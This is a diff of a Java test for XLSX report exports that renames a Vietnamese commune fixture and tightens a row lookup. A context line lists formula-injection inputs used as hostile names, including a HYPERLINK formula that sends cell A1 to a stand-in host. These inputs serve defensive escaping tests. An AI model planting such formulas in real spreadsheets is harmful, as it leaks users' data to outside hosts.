@@ -34,11 +34,13 @@ class ExportFilesTest {
             List.of("=HYPERLINK(\"http://x?\"&A1,\"x\")", "+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR");
 
     long commune;
+    String communeName;
     long course;
 
     @BeforeEach
     void peopleWithHostileNames() {
-        commune = ReportFixtures.commune("48", "Xã Hòa Vang " + ReportFixtures.unique());
+        communeName = "Xã Vân Đồn " + ReportFixtures.unique();
+        commune = ReportFixtures.commune("22", communeName);
         course = ReportFixtures.course();
         LocalDate d = LocalDate.of(2025, 10, 1);
         long viet = ReportFixtures.person(null, "Đặng Thị Ánh Tuyết", commune, null, null);
@@ -61,7 +63,7 @@ class ExportFilesTest {
 
     @Test
     void theReportXlsxHasATitleBlockNumbersAsNumbersAndATotalsRow() throws Exception {
-        byte[] xlsx = download("/reports/units/" + ReportFixtures.current("48").id + "/export.xlsx");
+        byte[] xlsx = download("/reports/units/" + ReportFixtures.current("22").id + "/export.xlsx");
         List<Row> rows = rows(xlsx);
         assertTrue(rows.get(0).getCell(0).getText().contains("Báo cáo"), "a title first");
         Row header = rows.stream()
@@ -70,7 +72,7 @@ class ExportFilesTest {
                 .findFirst()
                 .orElseThrow();
         Row commune = rows.stream()
-                .filter(r -> r.getCell(0) != null && r.getCell(0).getText().startsWith("Xã Hòa Vang"))
+                .filter(r -> r.getCell(0) != null && r.getCell(0).getText().equals(communeName))
                 .findFirst()
                 .orElseThrow();
         assertEquals(CellType.NUMBER, commune.getCell(2).getType());
